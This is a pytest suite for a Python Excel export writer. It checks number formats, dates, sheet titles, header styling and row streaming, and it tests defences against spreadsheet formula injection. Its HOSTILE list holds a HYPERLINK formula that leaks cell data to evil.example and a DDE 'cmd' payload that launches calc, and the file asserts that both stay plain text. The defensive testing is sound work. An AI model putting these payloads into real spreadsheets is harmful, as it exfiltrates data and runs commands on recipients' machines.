"""The Excel export reopened with openpyxl: types, values, formats, header, filter, query sheet."""

from __future__ import annotations

import zipfile
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from vitrina.present import excel
from vitrina.present.columns import ColumnMeta, ColumnRole, Grain, ValueFormat
from vitrina.present.excel import number_format, safe_sheet_title, write_excel
from vitrina.warehouse.result import QueryResult

METAS = [
    ColumnMeta(
        name="day", role=ColumnRole.PERIOD, label_ru="День", label_en="Day", grain=Grain.DAY
    ),
    ColumnMeta(name="client_id", role=ColumnRole.ID, label_ru="Клиент", label_en="Client"),
    ColumnMeta(name="region", role=ColumnRole.DIMENSION, label_ru="Регион", label_en="Region"),
    ColumnMeta(
        name="n", role=ColumnRole.METRIC, label_ru="Кол-во", label_en="Count", fmt=ValueFormat.COUNT
    ),
    ColumnMeta(
        name="amount",
        role=ColumnRole.METRIC,
        label_ru="Сумма",
        label_en="Amount",
        fmt=ValueFormat.MONEY,
        unit="RUB",
    ),
    ColumnMeta(
        name="share",
        role=ColumnRole.METRIC,
        label_ru="Доля",
        label_en="Share",
        fmt=ValueFormat.PERCENT,
    ),
    ColumnMeta(name="active", role=ColumnRole.ATTRIBUTE, label_ru="Активен", label_en="Active"),
    ColumnMeta(
        name="seen",
        role=ColumnRole.ATTRIBUTE,
        label_ru="Визит",
        label_en="Seen",
        fmt=ValueFormat.DATE,
    ),
]
COLUMNS = [m.name for m in METAS]


@pytest.fixture(params=["in_memory", "constant_memory"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Both ways the writer builds a file: small results in memory, big ones streamed row by
    row (forced here for a small result by a threshold of 0 cells)."""
    if request.param == "constant_memory":
        monkeypatch.setattr(excel, "CONSTANT_MEMORY_CELLS", 0)
    return request.param


def _assert_mode(path: Path, mode: str) -> None:
    """The file was built the way `mode` says (constant memory keeps no shared strings)."""
    with zipfile.ZipFile(path) as z:
        assert ("xl/sharedStrings.xml" in z.namelist()) == (mode == "in_memory")


def test_types_values_formats_and_query_sheet(tmp_path: Path, mode: str) -> None:
    rows = [
        (date(2025, 5, 1), 42, "Москва", 12345, Decimal("1234.50"), 12.5, True,
         datetime(2025, 5, 1, 10, 30)),
        (date(2025, 5, 2), 1234567890123456789, "=1+1", None, 0.005, None, False,
         datetime(2025, 5, 2, 9, 0, tzinfo=UTC)),
        (None, None, "bad\x01char", -7, Decimal("NaN"), float("nan"), None, None),
    ]  # fmt: skip
    result = QueryResult(columns=COLUMNS, rows=rows, truncated=True)
    path = write_excel(
        result, METAS, tmp_path / "out" / "a.xlsx", lang="ru", sheet_title="Кошельки: май/2025",
        question="Сколько кошельков?", sql="SELECT 1", period_label="май 2025",
    )  # fmt: skip
    assert path.exists()
    wb = load_workbook(path)
    assert wb.sheetnames == ["Кошельки  май 2025", "Запрос"]
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == [m.label_ru for m in METAS]
    assert ws[1][0].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:H4"
    assert ws.max_row == 4
    r2 = [c.value for c in ws[2]]
    assert r2[0] == datetime(2025, 5, 1) and r2[1] == 42 and r2[2] == "Москва"
    assert r2[3] == 12345 and r2[4] == 1234.5 and r2[5] == 12.5 and r2[6] is True
    assert r2[7] == datetime(2025, 5, 1, 10, 30)
    cells = ws[2]
    assert cells[0].number_format == "DD.MM.YYYY"
    assert cells[3].number_format == "#,##0"
    assert cells[4].number_format == '#,##0.00" ₽"'
    assert cells[5].number_format == '0.0"%"'
    assert cells[0].is_date and cells[4].data_type == "n"
    r3 = [c.value for c in ws[3]]
    assert r3[1] == "1234567890123456789"  # an id over 15 digits stays exact, as text
    assert r3[2] == "=1+1" and ws[3][2].data_type == "s"  # text, never a formula
    assert r3[3] is None and r3[4] == 0.005 and r3[6] is False
    assert r3[7] == datetime(2025, 5, 2, 9, 0)  # tz dropped, Excel has none
    r4 = [c.value for c in ws[4]]
    assert r4[2] == "badchar" and r4[3] == -7 and r4[4] is None and r4[5] is None
    assert ws.column_dimensions["C"].width >= 8
    q = wb["Запрос"]
    pairs = {row[0].value: row[1].value for row in q.iter_rows()}
    assert pairs["Вопрос"] == "Сколько кошельков?"
    assert pairs["SQL"] == "SELECT 1"
    assert pairs["Период"] == "май 2025"
    assert isinstance(pairs["Сформировано"], datetime)
    assert pairs["Строк"] == 3
    assert "обрезан" in pairs["Примечание"]
    _assert_mode(path, mode)


def test_english_formats_and_query_sheet(tmp_path: Path) -> None:
    result = QueryResult(columns=["day", "amount"], rows=[(date(2025, 5, 1), 10)])
    path = write_excel(
        result,
        METAS,
        tmp_path / "b.xlsx",
        lang="en",
        sheet_title="",
        question="q",
        sql="s",
        period_label=None,
    )
    wb = load_workbook(path)
    assert wb.sheetnames == ["Data", "Query"]
    ws = wb["Data"]
    assert ws["A2"].number_format == "YYYY-MM-DD"
    assert ws["B2"].number_format == '"RUB "#,##0.00'
    assert {r[0].value: r[1].value for r in wb["Query"].iter_rows()}["Period"] == "—"


def test_number_formats_by_meaning() -> None:
    month = ColumnMeta(
        name="m", role=ColumnRole.PERIOD, label_ru="", label_en="", grain=Grain.MONTH
    )
    assert number_format(month, "ru") == "MM.YYYY"
    assert number_format(METAS[2], "ru") is None
    assert safe_sheet_title("a" * 40) == "a" * 31
    assert safe_sheet_title("[]*?", "Data") == "Data"


def test_100k_rows_are_all_written(tmp_path: Path) -> None:
    """The row cap's worth of rows (its time: benchmarks/bench_present.py)."""
    metas = [METAS[0], METAS[2], METAS[3], METAS[4]]
    rows = [(date(2025, 1, 1 + i % 28), f"R{i % 50}", i, Decimal(i) / 7) for i in range(100_000)]
    result = QueryResult(columns=[m.name for m in metas], rows=rows)
    path = write_excel(
        result,
        metas,
        tmp_path / "big.xlsx",
        lang="ru",
        sheet_title="big",
        question="",
        sql="",
        period_label=None,
    )
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert '<row r="100001"' in xml and '<row r="100002"' not in xml


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "{=SUM(A1:A2)}",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "http://evil.example/x",
    "mailto:a@b.c",
    "123",
    "1e5",
]


def test_result_text_never_becomes_a_formula_a_link_or_a_number(tmp_path: Path, mode: str) -> None:
    """A security item: text from the warehouse (or the question) that looks like a formula,
    a DDE call, a URL or a number comes back as the same plain string."""
    metas = [
        ColumnMeta(name="t", role=ColumnRole.DIMENSION, label_ru="=1+2", label_en="=1+2"),
        ColumnMeta(name="m", role=ColumnRole.METRIC, label_ru="М", label_en="M",
                   fmt=ValueFormat.MONEY, unit="RUB"),
    ]  # fmt: skip
    rows = [(text, text) for text in HOSTILE]
    path = write_excel(
        QueryResult(columns=["t", "m"], rows=rows), metas, tmp_path / "x.xlsx",
        sheet_title="=A1", question=HOSTILE[0], sql=HOSTILE[1], period_label=HOSTILE[2],
    )  # fmt: skip
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    assert ws.title == "=A1" and ws["A1"].value == "=1+2" and ws["A1"].data_type == "s"
    for r, text in enumerate(HOSTILE, start=2):
        for cell in ws[r]:
            assert cell.value == text and cell.data_type == "s", (r, cell.value)
    assert ws._hyperlinks == []
    query = {row[0].value: row[1] for row in wb.worksheets[1].iter_rows()}
    assert [query[k].value for k in ("Вопрос", "SQL", "Период")] == HOSTILE[:3]
    assert all(query[k].data_type == "s" for k in ("Вопрос", "SQL", "Период"))
    with zipfile.ZipFile(path) as z:
        xml = " ".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
        assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml
        assert not any("worksheets/_rels" in n for n in z.namelist())
    _assert_mode(path, mode)


FORMULA_LIKE = ["=1+1", "+1", "-2+3", "@SUM(1)", "\tx", "\rx", "\uff1dSUM(1)"]


def test_formula_like_text_carries_the_quote_prefix_numbers_do_not(
    tmp_path: Path, mode: str
) -> None:
    """OWASP's CSV injection rule in the .xlsx: text starting with = + - @ tab or CR keeps its
    value and carries Excel's quote prefix (editing the cell or saving as CSV keeps it text);
    plain text has none, and a negative number stays a number, in every column format."""
    metas = [
        ColumnMeta(name="t", role=ColumnRole.DIMENSION, label_ru="=h", label_en="=h"),
        ColumnMeta(name="m", role=ColumnRole.METRIC, label_ru="М", label_en="M",
                   fmt=ValueFormat.MONEY, unit="RUB"),
    ]  # fmt: skip
    rows = [(text, -5) for text in FORMULA_LIKE] + [("Москва", Decimal("-7.5"))]
    path = write_excel(
        QueryResult(columns=["t", "m"], rows=rows), metas, tmp_path / "q.xlsx",
        question="=HYPERLINK(1)", sql="SELECT 1",
    )  # fmt: skip
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    assert ws["A1"].value == "=h" and ws["A1"].quotePrefix and ws["A1"].font.b  # header style kept
    assert ws["B1"].value == "М" and not ws["B1"].quotePrefix
    for r, text in enumerate(FORMULA_LIKE, start=2):
        cell, number = ws.cell(row=r, column=1), ws.cell(row=r, column=2)
        value = cell.value.replace("_x000D_", "\r")  # openpyxl leaves Excel's CR escape
        assert value == text and cell.data_type == "s" and cell.quotePrefix, repr(text)
        assert number.value == -5 and number.data_type == "n" and not number.quotePrefix
        assert number.number_format == '#,##0.00" ₽"'
    last = ws.cell(row=len(FORMULA_LIKE) + 2, column=1)
    assert last.value == "Москва" and not last.quotePrefix
    assert ws.cell(row=len(FORMULA_LIKE) + 2, column=2).value == -7.5
    query = {row[0].value: row[1] for row in wb.worksheets[1].iter_rows()}
    assert query["Вопрос"].value == "=HYPERLINK(1)" and query["Вопрос"].quotePrefix
    assert query["Вопрос"].alignment.wrap_text  # the quoted twin keeps the wrap
    assert not query["SQL"].quotePrefix
    _assert_mode(path, mode)


def _meta(fmt: ValueFormat = ValueFormat.TEXT, **kw: object) -> ColumnMeta:
    kw.setdefault("role", ColumnRole.METRIC)
    return ColumnMeta(name=str(kw.pop("name")), label_ru="x", label_en="x", fmt=fmt, **kw)


# (column meaning, a value, its format in ru, in en): every format number_format can give
FORMATS = [
    (_meta(name="day", role=ColumnRole.PERIOD, grain=Grain.DAY), date(2025, 5, 1),
     "DD.MM.YYYY", "YYYY-MM-DD"),
    (_meta(name="week", role=ColumnRole.PERIOD, grain=Grain.WEEK), date(2025, 4, 28),
     "DD.MM.YYYY", "YYYY-MM-DD"),
    (_meta(name="quarter", role=ColumnRole.PERIOD, grain=Grain.QUARTER), date(2025, 4, 1),
     "DD.MM.YYYY", "YYYY-MM-DD"),
    (_meta(name="month", role=ColumnRole.PERIOD, grain=Grain.MONTH), date(2025, 5, 1),
     "MM.YYYY", "YYYY-MM"),
    (_meta(name="year", role=ColumnRole.PERIOD, grain=Grain.YEAR), date(2025, 1, 1),
     "YYYY", "YYYY"),
    (_meta(name="code", role=ColumnRole.ID), "A-17", "@", "@"),
    (_meta(ValueFormat.COUNT, name="num_id", role=ColumnRole.ID), 42, "0", "0"),
    (_meta(ValueFormat.MONEY, name="rub", unit="RUB"), 1234.5,
     '#,##0.00" ₽"', '"RUB "#,##0.00'),
    (_meta(ValueFormat.MONEY, name="usd", unit="USD"), 7.25,
     '#,##0.00" USD"', '"USD "#,##0.00'),
    (_meta(ValueFormat.MONEY, name="money"), Decimal("10.50"), "#,##0.00", "#,##0.00"),
    (_meta(ValueFormat.COUNT, name="count"), 12345, "#,##0", "#,##0"),
    (_meta(ValueFormat.PERCENT, name="pct"), 12.5, '0.0"%"', '0.0"%"'),
    (_meta(ValueFormat.NUMBER, name="number"), 3.14159, "#,##0.00", "#,##0.00"),
    (_meta(ValueFormat.DATE, name="seen", role=ColumnRole.ATTRIBUTE),
     datetime(2025, 5, 2, 9, 30), "DD.MM.YYYY", "YYYY-MM-DD"),
    (_meta(name="region", role=ColumnRole.DIMENSION), "Москва", "General", "General"),
]  # fmt: skip


@pytest.mark.parametrize("lang", ["ru", "en"])
def test_every_number_format_by_column_meaning(tmp_path: Path, lang: str, mode: str) -> None:
    metas = [meta for meta, *_ in FORMATS]
    row = tuple(value for _, value, *_ in FORMATS)
    result = QueryResult(columns=[m.name for m in metas], rows=[row])
    ws = load_workbook(write_excel(result, metas, tmp_path / "f.xlsx", lang=lang)).worksheets[0]
    for cell, (meta, value, ru, en) in zip(ws[2], FORMATS, strict=True):
        expected = ru if lang == "ru" else en
        assert cell.number_format == expected, meta.name
        assert (number_format(meta, lang) or "General") == expected, meta.name
        if isinstance(value, date):  # a date comes back as a datetime at midnight
            assert cell.is_date, meta.name
            assert cell.value in (value, datetime.combine(value, time())), meta.name
        else:
            assert cell.value == value, meta.name


def test_dates_outside_date_columns_and_numbers_inside_them(tmp_path: Path, mode: str) -> None:
    """A date value in a column without a date format gets the default format of its type; a
    number in a period column (a month number, a year) stays a number, not a 1900 date."""
    metas = [
        _meta(name="when", role=ColumnRole.ATTRIBUTE),
        _meta(ValueFormat.COUNT, name="n"),
        _meta(name="month", role=ColumnRole.PERIOD, grain=Grain.MONTH),
        _meta(name="year", role=ColumnRole.PERIOD, grain=Grain.YEAR),
    ]
    rows = [
        (datetime(2025, 1, 2, 3, 4, 5), date(2025, 1, 2), 5, 2025),
        (date(2025, 1, 2), 7, 12, 2024),
        (time(3, 4, 5), None, "2025-05", "2025"),
        (timedelta(hours=30, minutes=1), 8, None, None),
    ]
    result = QueryResult(columns=[m.name for m in metas], rows=rows)
    ws = load_workbook(write_excel(result, metas, tmp_path / "d.xlsx")).worksheets[0]
    got = [[(c.value, c.number_format) for c in ws[r]] for r in range(2, 6)]
    assert got[0] == [
        (datetime(2025, 1, 2, 3, 4, 5), "yyyy-mm-dd h:mm:ss"),
        (datetime(2025, 1, 2), "yyyy-mm-dd"),  # a date in a count column is still a date
        (5, "General"),
        (2025, "General"),
    ]
    assert got[1] == [
        (datetime(2025, 1, 2), "yyyy-mm-dd"),
        (7, "#,##0"),  # and the column's own format is kept for its numbers
        (12, "General"),
        (2024, "General"),
    ]
    assert got[2][0] == (time(3, 4, 5), "h:mm:ss") and got[2][1][0] is None
    assert got[2][2] == ("2025-05", "MM.YYYY") and got[2][3] == ("2025", "YYYY")  # text as is
    assert got[3][0] == (timedelta(hours=30, minutes=1), "[hh]:mm:ss")


def test_header_style_widths_and_query_sheet_formats(tmp_path: Path, mode: str) -> None:
    metas = [METAS[2], METAS[4]]
    rows = [("Санкт-Петербург", Decimal("1.00")), ("х" * 100, Decimal("123456789.00"))]
    when = datetime(2025, 6, 1, 12, 30, 15)
    path = write_excel(
        QueryResult(columns=[m.name for m in metas], rows=rows), metas, tmp_path / "w.xlsx",
        question="Сумма по регионам", sql="SELECT 1", generated_at=when,
    )  # fmt: skip
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    head = ws["A1"]
    assert head.font.bold and head.fill.fill_type == "solid"
    assert head.fill.fgColor.rgb == "FFDDEBF7"
    assert head.alignment.wrap_text and head.alignment.vertical == "center"
    # width: the longest shown value + 2, between 8 and 60 (Excel adds its padding of < 1)
    assert 60 <= ws.column_dimensions["A"].width < 61
    assert 18 <= ws.column_dimensions["B"].width < 19  # "123 456 789,00 ₽" is 16 characters
    q = wb["Запрос"]
    assert 16 <= q.column_dimensions["A"].width < 17
    assert 100 <= q.column_dimensions["B"].width < 101
    cells = {row[0].value: row[1] for row in q.iter_rows()}
    assert all(row[0].font.bold for row in q.iter_rows())
    assert cells["Вопрос"].alignment.wrap_text and cells["SQL"].alignment.vertical == "top"
    assert cells["Сформировано"].value == when
    assert cells["Сформировано"].number_format == "DD.MM.YYYY HH:MM:SS"
    assert cells["Строк"].value == 2 and cells["Строк"].alignment.horizontal == "left"
    assert "Примечание" not in cells  # nothing cut: no note


def test_large_results_stream_with_every_feature(tmp_path: Path) -> None:
    """Above the threshold the sheet is streamed (constant memory) and keeps its features."""
    n = excel.CONSTANT_MEMORY_CELLS  # twice the threshold's cells in two columns
    metas = [METAS[2], METAS[3]]
    rows = [(f"=R{i}", i) for i in range(n)]
    path = write_excel(QueryResult(columns=["region", "n"], rows=rows), metas, tmp_path / "l.xlsx")
    _assert_mode(path, "constant_memory")
    ws = load_workbook(path).worksheets[0]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:B{n + 1}"
    assert ws["A1"].font.bold and ws.max_row == n + 1
    assert ws[n + 1][0].value == f"=R{n - 1}" and ws[n + 1][0].data_type == "s"
    assert ws[n + 1][1].value == n - 1 and ws[n + 1][1].number_format == "#,##0"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("a" * 30 + "'b", "a" * 30),  # cut at 31, then no apostrophe at the end
        ("'Итоги'", "Итоги"),
        ("📈" * 20, "📈" * 15),  # an emoji is two UTF-16 units: Excel counts 31 of those
        ("History", "Data"),  # reserved by Excel
        ("back\\slash\x07: [1]", "back slash   1"),  # forbidden characters, a control one
    ],
)
def test_sheet_titles_excel_accepts(tmp_path: Path, title: str, expected: str) -> None:
    assert safe_sheet_title(title) == expected
    result = QueryResult(columns=["region"], rows=[("Москва",)])
    path = write_excel(result, METAS, tmp_path / "t.xlsx", lang="en", sheet_title=title)
    assert load_workbook(path).sheetnames == [expected, "Query"]


def test_a_title_equal_to_the_query_sheet_numbers_the_query_sheet(tmp_path: Path) -> None:
    result = QueryResult(columns=["region"], rows=[("Москва",)])
    path = write_excel(result, METAS, tmp_path / "q.xlsx", sheet_title="запрос")
    assert load_workbook(path).sheetnames == ["запрос", "Запрос1"]


def test_an_unwritable_path_is_an_os_error(tmp_path: Path) -> None:
    """The callers catch OSError and go on without the file (XlsxWriter wraps it)."""
    target = tmp_path / "taken.xlsx"
    target.mkdir()
    result = QueryResult(columns=["region"], rows=[("Москва",)])
    with pytest.raises(OSError):
        write_excel(result, METAS, target)
